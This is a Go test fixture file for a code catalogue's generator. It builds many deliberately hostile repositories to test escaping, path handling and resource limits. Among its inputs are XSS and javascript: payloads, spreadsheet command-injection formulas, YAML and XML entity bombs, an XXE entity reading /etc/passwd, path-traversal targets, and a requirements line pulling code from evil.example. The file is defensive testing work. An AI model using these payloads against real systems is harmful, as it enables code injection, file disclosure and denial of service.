package generator

import (
	"fmt"
	"io/fs"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	embeddedcontent "github.com/nhs-code-catalogue/catalogue/content"
	"github.com/nhs-code-catalogue/catalogue/generator/catalogue"
)

// hostile is one repository that means harm.
type hostile struct {
	*catalogue.Repository
	excluded bool   // it may not be listed at all
	warned   string // what the report must say of it, by name
}

var hostileNight = time.Date(2026, 11, 22, 3, 0, 0, 0, time.UTC)

const markupTitle = `"><img src=x onerror=` + attack + `></title></a>{{.}}<script>` + attack + `</script>` // still one line of text

// formulas are what a spreadsheet would run.
var formulas = []string{`=HYPERLINK("https://evil.example","x")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1"}

// hostileCorpus is more than a hundred repositories, each hostile in its own way.
func hostileCorpus(t testing.TB) []hostile {
	var all []hostile
	add := func(name string, change func(*catalogue.Repository)) *hostile {
		r := plainRepository(t, int64(len(all)+1), name)
		change(r)
		all = append(all, hostile{Repository: r})
		return &all[len(all)-1]
	}
	texts := hostileTexts()
	for _, name := range slices.Sorted(maps.Keys(texts)) {
		h := add(name, func(r *catalogue.Repository) {
			path := "README.md"
			for _, ext := range extensions {
				if strings.HasSuffix(name, "-"+ext) {
					path = "README." + ext
				}
			}
			give(r, path, texts[name])
			r.Details.Readme = path
		})
		h.warned = breaches[name]
	}
	addNames(add)
	addWords(add)
	addFiles(add)
	addOthers(add)
	return all
}

// hostileTexts are the READMEs that mean harm, by the name of the repository.
func hostileTexts() map[string]string {
	texts := map[string]string{}
	for _, some := range []map[string]string{readmes, huge(), otherReadmes, otherRoads()} {
		maps.Copy(texts, some)
	}
	return texts
}

// extensions are those of READMEs that are not Markdown, by the end of the name.
var extensions = []string{"rst", "adoc", "org"}

// breaches are the limits that a text goes beyond, and what is said of it.
var breaches = map[string]string{
	"x-all-words": "more than 10000 different words", "x-notes": "marks of footnotes", "x-nested-numbers": "shown as plain text", "x-details-open": "elements", "x-forty-megabytes": "more than 2000 headings",
	"x-arabic-word": "beyond Latin", "x-hebrew-turns": "beyond Latin", "x-hindi": "beyond Latin", "x-emoji-turns": "beyond Latin", "x-zalgo": "beyond Latin",
	"many-heads": "more than 2000 headings", "many-items": "more than 25000 elements", "many-blocks": "more than 2000 tables and blocks of code",
	"many-scripts": "beyond Latin", "many-letters": "beyond Latin", "many-colours": "beyond Latin", "many-columns": "more than 200 columns", "many-spans": "more than 200 columns",
	"wide-table": "shown as plain text", "long-line": "longer than", "long-text": "longer than",
	"deep-quotes": "shown as plain text", "deep-lists": "shown as plain text", "many-links": "shown as plain text",
}

// plainRepository is what each begins as: openly licensed, so that all of its
// README is shown.
func plainRepository(t testing.TB, id int64, name string) *catalogue.Repository {
	t.Helper()
	licence, err := fs.ReadFile(embeddedcontent.FS, "sample/licences/MIT.txt")
	if err != nil {
		t.Fatal(err)
	}
	r := &catalogue.Repository{
		ID: id, Owner: "hostile-org", Name: name, OwnerKind: "trust", Description: "still here", HTMLURL: "https://github.com/hostile-org/" + name,
		DefaultBranch: "main", Language: "Go", GitHubLicence: "MIT", Topics: []string{"hostile"}, Created: hostileNight.AddDate(-1, 0, 0), Pushed: hostileNight.AddDate(0, 0, -1),
		Updated: hostileNight.AddDate(0, 0, -1), ListedAsOf: hostileNight,
		Details: &catalogue.Details{AsOf: hostileNight, Source: "sample", Commit: "0123456789abcdef0123456789abcdef01234567", CommittedAt: hostileNight.AddDate(0, 0, -1), Readme: "README.md"},
	}
	give(r, "LICENSE", string(licence))
	give(r, "README.md", "# A thing\n\nstill here")
	return r
}

// give puts a file into a repository, in place of one of that path.
func give(r *catalogue.Repository, path, text string) {
	d := r.Details
	d.Files = slices.DeleteFunc(d.Files, func(f catalogue.File) bool { return f.Path == path })
	d.Files = append(d.Files, catalogue.File{Path: path, Data: []byte(text), Size: int64(len(text))})
	d.Tree.Entries = slices.DeleteFunc(d.Tree.Entries, func(e catalogue.TreeEntry) bool { return e.Path == path })
	d.Tree.Entries = append(d.Tree.Entries, catalogue.TreeEntry{Path: path, Type: "blob", Mode: "100644", Size: int64(len(text))})
	slices.SortFunc(d.Files, func(a, b catalogue.File) int { return strings.Compare(a.Path, b.Path) })
	slices.SortFunc(d.Tree.Entries, func(a, b catalogue.TreeEntry) int { return strings.Compare(a.Path, b.Path) })
}

type adder func(name string, change func(*catalogue.Repository)) *hostile

func unchanged(*catalogue.Repository) {}

// addNames adds repositories whose names are the harm.
func addNames(add adder) {
	for _, name := range []string{"..", ".", "", "a/b", `a\b`, "nul\x00byte", "line\nbreak", "<script>", "bidi\u202egnp", "%2e%2e", strings.Repeat("x", 300), "space name", "ünïcode", "q?x=1", "h#ash"} {
		add(name, unchanged).excluded = true
	}
	for _, name := range []string{".github", "...", "-rf", "--help", "__proto__", "constructor", "index.html", "feed.xml", "page", "CON", "nul.txt", "con.json", "a.json", "a.svg", "a", "Case-Only", strings.Repeat("x", 100)} {
		add(name, unchanged)
	}
	add("other-case-of-owner", func(r *catalogue.Repository) { r.Owner = "HOSTILE-org" })
	add("case-only", unchanged).excluded = true
	for _, owner := range []string{"..", "a/..", "<b>", "x\x00y"} {
		add("owner", func(r *catalogue.Repository) { r.Owner = owner }).excluded = true
	}
}

// addWords adds repositories whose description, topics and the like are the harm.
func addWords(add adder) {
	words := slices.Concat(formulas, []string{
		markupTitle, "]]><script>" + attack + "</script>", "--><script>" + attack + "</script><!--", "\u202eoverride \u2066isolate", "nul \x00 \x01 \x1b[31m \ufffe",
		"invalid \xff\xc0\xbc", strings.Repeat("long ", 50_000), "{{.}} ${x} {% x %}", "&lt;script&gt;" + attack, "\u2028\u2029", "مرحبا שלום", "a\r\nSet-Cookie: x=1\r\n\r\n<script>",
	})
	for i, w := range words {
		add(fmt.Sprintf("description-%d", i), func(r *catalogue.Repository) { r.Description = w })
		add(fmt.Sprintf("homepage-%d", i), func(r *catalogue.Repository) { r.Homepage = w })
		add(fmt.Sprintf("topic-%d", i), func(r *catalogue.Repository) { r.Topics = []string{w, "Hostile", "hostile", "HOSTILE"} })
		add(fmt.Sprintf("language-%d", i), func(r *catalogue.Repository) {
			r.Language = w
			r.Details.Languages = []catalogue.LanguageSize{{Name: w, Bytes: 1<<63 - 1}, {Name: w, Bytes: 1<<63 - 1}, {Name: "..", Bytes: -1}}
		})
		add(fmt.Sprintf("licence-%d", i), func(r *catalogue.Repository) {
			r.GitHubLicence = w
			r.Details.Files = slices.DeleteFunc(r.Details.Files, func(f catalogue.File) bool { return f.Path == "LICENSE" })
			give(r, "package.json", fmt.Sprintf(`{"name":%q,"license":%q}`, w, w))
		})
		add(fmt.Sprintf("release-%d", i), func(r *catalogue.Repository) {
			r.Details.Releases = []catalogue.Release{{Tag: w, Name: w, URL: w, Published: hostileNight}, {Tag: "v1", URL: "javascript:" + attack, Published: hostileNight}, {Tag: "v0", URL: "../../../../x", Published: hostileNight}}
			r.Details.Tags = []string{w}
		})
		add(fmt.Sprintf("issue-%d", i), func(r *catalogue.Repository) {
			r.Details.HelpWanted = []catalogue.Issue{{Number: -1, Title: w, URL: w, Labels: []string{w, "good first issue"}, Created: hostileNight, Updated: hostileNight}, {Number: 2, Title: "x", URL: "javascript:" + attack, Created: hostileNight, Updated: hostileNight}}
		})
		add(fmt.Sprintf("commit-%d", i), func(r *catalogue.Repository) {
			r.Details.Commit, r.DefaultBranch, r.Details.ForkOf, r.Fork = w, w, w, true
			r.StaleReason = w
		})
	}
	for i, address := range []string{"javascript:" + attack, "data:text/html,<script>" + attack + "</script>", "//evil.example", "https://evil.example/\" onclick=\"" + attack, "https://user:secret@evil.example", "http://[::1", "/../../x", "../../x", "https://", "HTTPS://evil.example"} {
		add(fmt.Sprintf("address-%d", i), func(r *catalogue.Repository) { r.Homepage, r.HTMLURL = address, address })
	}
	for i, word := range []string{".", "..", "a/b", `a\b`, "page", "C", "c", "go", "GO", "%2e%2e", "a?b#c", strings.Repeat("t", 300), "", " ", "index.html", "feed.xml"} {
		add(fmt.Sprintf("key-%d", i), func(r *catalogue.Repository) {
			r.Language, r.Topics, r.GitHubLicence = word, []string{word}, word
			r.Details.Languages = []catalogue.LanguageSize{{Name: word, Bytes: 10}}
		})
	}
	add("times", func(r *catalogue.Repository) {
		far := time.Date(9999, 12, 31, 23, 59, 59, 0, time.UTC)
		r.Created, r.Pushed, r.Updated, r.Details.CommittedAt = far, far, time.Unix(0, 0).UTC(), far
		r.Details.Commits = []time.Time{far, time.Unix(-1<<33, 0).UTC()}
	})
	add("numbers", func(r *catalogue.Repository) { r.Stars, r.Forks, r.OpenIssues, r.SizeKiB = -1, 1<<62, -1<<62, -1 })
}

// yamlBomb unfolds to 9^9 entries.
func yamlBomb(key string) string {
	b := key + "0: &a0 [x,x,x,x,x,x,x,x,x]\n"
	for i := 1; i < 9; i++ {
		b += fmt.Sprintf("%s%d: &a%d [%s]\n", key, i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i-1), 9), ","))
	}
	return b
}

// addFiles adds repositories whose files are the harm.
func addFiles(add adder) {
	deep := strings.Repeat(`{"a":`, 100_000)
	files := map[string]map[string]string{
		"publiccode-bomb":   {"publiccode.yml": "publiccodeYmlVersion: '0.5'\n" + yamlBomb("x")},
		"publiccode-deep":   {"publiccode.yml": strings.Repeat("[", 50_000)},
		"publiccode-huge":   {"publiccode.yml": "name: " + strings.Repeat("x", 1<<20)},
		"publiccode-markup": {"publiccode.yml": "publiccodeYmlVersion: '0.5'\nname: " + quoteYAML(markupTitle) + "\nurl: javascript:" + attack + "\nlegal:\n  license: " + quoteYAML(markupTitle) + "\nmaintenance:\n  contacts:\n    - email: " + quoteYAML("x@y.example\"><script>"+attack+"</script>") + "\n"},
		"publiccode-binary": {"publiccode.yml": "\xff\xfe\x00\x01"},
		"publiccode-alias":  {"publiccode.yml": "a: &a\n  <<: *a\nb: *a\n"},
		"json-deep":         {"package.json": deep, "composer.json": deep},
		"json-types":        {"package.json": `{"name":[],"version":{},"license":[[[]]],"dependencies":"x","engines":7,"repository":{"url":["x"]}}`},
		"json-markup":       {"package.json": fmt.Sprintf(`{"name":%q,"version":"1","license":%q,"dependencies":{%q:%q}}`, markupTitle, markupTitle, markupTitle, markupTitle)},
		"json-huge-numbers": {"package.json": `{"name":1e999999,"version":-0,"dependencies":{"a":123456789012345678901234567890}}`},
		"toml-deep":         {"pyproject.toml": "a = " + strings.Repeat("[", 100_000), "Cargo.toml": "[" + strings.Repeat("a.", 50_000) + "b]"},
		"toml-markup":       {"pyproject.toml": "[project]\nname = '" + "<script>" + attack + "</script>" + "'\nlicense = '" + markupTitle + "'\ndependencies = ['<img src=x>']\n"},
		"python":            {"setup.py": "setup(name='''" + markupTitle + "''', install_requires=[" + strings.Repeat("[", 20_000), "requirements.txt": "-r ../../../etc/passwd\n-e git+https://evil.example\n<script>\n" + strings.Repeat("x\\\n", 20_000)},
		"xml-bomb":          {"pom.xml": "<!DOCTYPE l [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;'>]><project><name>&c;</name></project>", "x.csproj": strings.Repeat("<a>", 100_000)},
		"xml-outside":       {"pom.xml": "<!DOCTYPE p [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><project><artifactId>&x;</artifactId></project>"},
		"terraform":         {"main.tf": strings.Repeat("resource \"x\" \"y\" {", 5_000), "x.tf": "a = " + strings.Repeat("(", 50_000)},
		"gomod":             {"go.mod": "module " + markupTitle + "\n\nrequire (\n" + strings.Repeat("\tx v0.0.0\n", 20_000)},
		"workflow-bomb":     {".github/workflows/ci.yml": yamlBomb("j"), "environment.yml": yamlBomb("e"), "docker-compose.yml": yamlBomb("d")},
		"notebook":          {"a.ipynb": `{"cells":[{"cell_type":"code","source":["` + strings.Repeat("x", 1<<20) + `"],"outputs":[{"data":{"text/html":"<script>` + attack + `</script>"}}]}]}`},
		"codeowners":        {"CODEOWNERS": "* " + markupTitle + "\n* @\n* @../../x", ".github/CODEOWNERS": "\xff"},
		"openapi":           {"openapi.yaml": "openapi: 3.0.0\ninfo: {title: " + quoteYAML(markupTitle) + "}\n" + yamlBomb("x")},
		"licence-markup":    {"LICENSE": "<script>" + attack + "</script>" + strings.Repeat("(", 50_000)},
		"contact-markup":    {"SECURITY.md": "Write to <img src=x onerror=" + attack + ">@evil.example or \"><script>\"@evil.example or a@evil.example?bcc=x%0abcc:y"},
		"evidence-markup":   {"README.md": "still here\n\n<b>We use FHIR R4 <img src=x onerror=" + attack + "> SNOMED CT ]]> </b>\n\n" + strings.Repeat("FHIR ", 50_000)},
	}
	for _, name := range slices.Sorted(maps.Keys(files)) {
		add(name, func(r *catalogue.Repository) {
			for path, text := range files[name] {
				give(r, path, text)
			}
		})
	}
	for i, target := range []string{"../../../../../etc/passwd", "/etc/passwd", "README.md", "..", ".", "docs/README.md", "\x00", ""} {
		add(fmt.Sprintf("link-%d", i), func(r *catalogue.Repository) {
			give(r, "README.md", target)
			for j := range r.Details.Tree.Entries {
				if e := &r.Details.Tree.Entries[j]; e.Path == "README.md" {
					e.Mode = "120000"
				}
			}
		})
	}
	for i, path := range []string{"../../evil.md", "/etc/evil.md", "a/../../evil.md", `..\..\evil.md`, "<script>" + attack + "</script>.md", "nul\x00.md", strings.Repeat("d/", 5_000) + "README.md", "bidi\u202edm.md"} {
		add(fmt.Sprintf("path-%d", i), func(r *catalogue.Repository) {
			give(r, path, "# FHIR\n\nstill here ![x](x.png)")
			r.Details.Readme = path
		})
	}
	add("images", func(r *catalogue.Repository) {
		give(r, "README.md", "still here ![a](a.svg) ![b](../../b.png) ![c](index.html) ![d](%2e%2e/d.png) ![e](e.png)")
		give(r, "a.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='"+attack+"'><script>"+attack+"</script></svg>")
		give(r, "index.html", "<script>"+attack+"</script>")
		give(r, "e.png", "<script>"+attack+"</script>")
	})
	add("many-files", func(r *catalogue.Repository) {
		for i := range 20_000 {
			r.Details.Tree.Entries = append(r.Details.Tree.Entries, catalogue.TreeEntry{Path: fmt.Sprintf("f/%d/\u202e<b>.js", i), Type: "blob", Mode: "100644", Size: -1})
		}
		r.Details.Tree.Truncated = true
	})
	add("no-files", func(r *catalogue.Repository) { r.Details = &catalogue.Details{} })
	add("no-data", func(r *catalogue.Repository) {
		for i := range r.Details.Files {
			r.Details.Files[i].Data, r.Details.Files[i].Size = nil, -1
		}
	})
	add("no-details", func(r *catalogue.Repository) { r.Details = nil })
}

// quoteYAML writes a text as one line of YAML.
func quoteYAML(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }
